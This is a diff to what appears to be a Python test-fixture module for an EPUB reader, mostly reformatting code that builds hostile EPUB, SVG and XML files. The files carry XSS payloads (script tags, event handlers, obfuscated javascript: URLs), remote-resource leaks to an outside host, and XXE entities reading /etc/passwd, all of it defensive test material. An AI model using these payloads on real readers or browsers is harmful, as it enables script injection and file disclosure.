@@ -15,6 +15,7 @@ if TYPE_CHECKING:
     from tests.hostile_files import Target
 
 SHOWN = "这一句无害。"
+XLINK = "http://www.w3.org/1999/xlink"
 MARK = "/tmp/shuxiang-hostile"
 """Where traversal would write; nothing may ever be there."""
 _ITEM = '<item id="c1" href="c1.xhtml" media-type="application/xhtml+xml"/>'
@@ -83,24 +84,32 @@ def everything(target: Target) -> bytes:
     js, out, own = attack(target), target.outside, target.box
     data = "data:text/html," + quote(f"<script>{js}</script>")
     body = f"""<h1>恶意</h1><p id="victim" onclick="{js}" onmouseover="{js}" onfocus="{js}" tabindex="0">{SHOWN}</p>
-      <script>{js}</script><script src="evil.js"></script><script src="{out}/a.js"></script><script type="module">{js}</script>
+      <script>{js}</script><script src="evil.js"></script><script src="{out}/a.js"></script>
+      <script type="module">{js}</script>
       <script src="{own}/items/{target.script_item}"></script>
-      <svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" onload="{js}" width="9" height="9">
-        <script>{js}</script><set attributeName="href" to="javascript:{js}"/><a xlink:href="javascript:{js}"><text>a</text></a>
+      <svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="{XLINK}" onload="{js}" width="9" height="9">
+        <script>{js}</script><set attributeName="href" to="javascript:{js}"/>
+      <a xlink:href="javascript:{js}"><text>a</text></a>
         <image xlink:href="{out}/svg-image" width="9" height="9"/><use href="{out}/svg-use#x"/>
         <foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="{out}/foreign"></iframe></foreignObject>
-        <animate attributeName="xlink:href" values="javascript:{js}"/><handler type="text/javascript">{js}</handler></svg>
-      <img src="{out}/img" alt="" onerror="{js}"/><img src="{own}/end?img" alt=""/><img src="none.png" alt="" onerror="{js}"/>
+        <animate attributeName="xlink:href" values="javascript:{js}"/>
+      <handler type="text/javascript">{js}</handler></svg>
+      <img src="{out}/img" alt="" onerror="{js}"/><img src="{own}/end?img" alt=""/>
+      <img src="none.png" alt="" onerror="{js}"/>
       <img srcset="{out}/srcset 2x" alt=""/><picture><source srcset="{out}/picture"/><img alt=""/></picture>
       <img src="picture.svg" alt=""/><input type="image" src="{out}/input"/><body background="{out}/background"/>
       <iframe src="{out}/frame"></iframe><iframe srcdoc="&lt;script&gt;top.__pwned=1&lt;/script&gt;"></iframe>
       <iframe src="{data}"></iframe><iframe src="javascript:{js}"></iframe><iframe src="page.html"></iframe>
       <object data="{out}/object"></object><object data="page.html"></object><embed src="{out}/embed"/>
       <a id="way" href="javascript:{js}">去</a><a id="tab" href="java&#10;script:{js}" target="_blank">去</a>
-      <a id="ping" href="#victim" ping="{out}/ping" download="x.exe">去</a><a id="own" href="{own}/items/{target.script_item}">去</a>
-      <form action="{out}/form"><input name="q" autofocus="autofocus" onfocus="{js}"/><button id="send" formaction="{own}/end">发</button></form>
-      <video src="{out}/video" poster="{out}/poster" autoplay="autoplay"><track src="{out}/track" default="default"/></video>
-      <audio src="{out}/audio" autoplay="autoplay"></audio><audio autoplay="autoplay"><source src="{out}/source"/></audio>
+      <a id="ping" href="#victim" ping="{out}/ping" download="x.exe">去</a>
+      <a id="own" href="{own}/items/{target.script_item}">去</a>
+      <form action="{out}/form"><input name="q" autofocus="autofocus" onfocus="{js}"/>
+      <button id="send" formaction="{own}/end">发</button></form>
+      <video src="{out}/video" poster="{out}/poster" autoplay="autoplay">
+      <track src="{out}/track" default="default"/></video>
+      <audio src="{out}/audio" autoplay="autoplay"></audio><audio autoplay="autoplay">
+      <source src="{out}/source"/></audio>
       <details open="open" ontoggle="{js}"><summary>s</summary></details><marquee onstart="{js}">m</marquee>
       <math><mtext href="javascript:{js}">m</mtext></math><portal src="{out}/portal"/><dialog open="open">d</dialog>
       <template><script>{js}</script></template><noscript><img src="{out}/noscript" alt=""/></noscript>
@@ -119,11 +128,14 @@ def everything(target: Target) -> bytes:
         f'<?xml version="1.0"?><{sheet} type="text/xsl" href="{out}/x.xsl"?><{sheet} type="text/xml" href="t.xsl"?>'
     )
     items = (
-        '<item id="css" href="evil.css" media-type="text/css"/><item id="js" href="evil.js" media-type="text/javascript"/>'
-        '<item id="svg" href="picture.svg" media-type="image/svg+xml"/><item id="html" href="page.html" media-type="text/html"/>'
+        '<item id="css" href="evil.css" media-type="text/css"/>'
+        '<item id="js" href="evil.js" media-type="text/javascript"/>'
+        '<item id="svg" href="picture.svg" media-type="image/svg+xml"/>'
+        '<item id="html" href="page.html" media-type="text/html"/>'
         '<item id="xsl" href="t.xsl" media-type="application/xslt+xml"/>'
         '<item id="c2" href="c2.xhtml" media-type="application/xhtml+xml"/>'
-        '<item id="c3" href="c3.svg" media-type="image/svg+xml"/><item id="c4" href="page.html" media-type="text/html"/>'
+        '<item id="c3" href="c3.svg" media-type="image/svg+xml"/>'
+        '<item id="c4" href="page.html" media-type="text/html"/>'
     )
     spine = "<spine>" + "".join(f'<itemref idref="c{n}"/>' for n in (1, 2, 3, 4)) + "</spine>"
     return epub_of(
@@ -145,9 +157,10 @@ def svg_attacks(target: Target) -> bytes:
     """A drawing with scripts and remote parts."""
     js, out = attack(target), target.outside
     return (
-        f'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 9 9" onload="{js}">'
+        f'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="{XLINK}" viewBox="0 0 9 9" onload="{js}">'
         f'<script>{js}</script><script xlink:href="{out}/svg.js"/><style>@import "{out}/svg.css";</style>'
-        f'<image href="{out}/in-svg" width="9" height="9"/><use href="{out}/use-in-svg#x"/><rect width="9" height="9"/>'
+        f'<image href="{out}/in-svg" width="9" height="9"/><use href="{out}/use-in-svg#x"/>'
+        f'<rect width="9" height="9"/>'
         f'<foreignObject width="9" height="9"><body xmlns="http://www.w3.org/1999/xhtml"><script>{js}</script>'
         f'<iframe src="{out}/svg-frame"/></body></foreignObject></svg>'
     ).encode()
@@ -218,7 +231,10 @@ def entity_bomb() -> bytes:
 
 def external_entities(target: Target) -> bytes:
     """Entities from files of the box and from outside, in container, package and chapter."""
-    outside = f'<!ENTITY e SYSTEM "file:///etc/passwd"><!ENTITY r SYSTEM "{target.outside}/entity"><!ENTITY % d SYSTEM "{target.outside}/dtd">%d;'
+    outside = (
+        f'<!ENTITY e SYSTEM "file:///etc/passwd"><!ENTITY r SYSTEM "{target.outside}/entity">'
+        f'<!ENTITY % d SYSTEM "{target.outside}/dtd">%d;'
+    )
     doctype = f'<!DOCTYPE x SYSTEM "{target.outside}/x.dtd" [{outside}]>'.encode()
     opf = package(_ITEM, _SPINE, "<dc:title>&e;&r;</dc:title>").replace(b"?><package", b"?>" + doctype + b"<package")
     return epub_of(
